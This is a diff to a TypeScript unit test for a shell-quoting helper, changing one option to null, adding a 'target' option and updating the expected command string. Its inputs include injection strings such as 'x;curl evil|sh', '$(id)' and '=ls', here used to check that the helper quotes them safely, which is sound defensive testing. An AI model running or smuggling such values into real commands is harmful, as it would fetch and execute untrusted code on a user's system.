@@ -5,12 +5,13 @@ import { shell, shellOptions } from "./shell-text.ts";
 test("whatever stands in a word, a shell reads it as one", () => {
   const flags = shellOptions([
     ["actor", "x;curl evil|sh"],
-    ["overdue", "true"],
+    ["overdue", null],
+    ["target", "true"],
     ["error", "it's late"],
   ]);
   const command = shell`audit ${"01-a"}${flags} ${"$(id)"} ${"=ls"} ${"a=b"} ${""}`;
   assert.equal(
     command.text,
-    `audit 01-a --actor 'x;curl evil|sh' --overdue --error 'it'\\''s late' '$(id)' '=ls' a=b ''`,
+    `audit 01-a --actor 'x;curl evil|sh' --overdue --target true --error 'it'\\''s late' '$(id)' '=ls' a=b ''`,
   );
 });
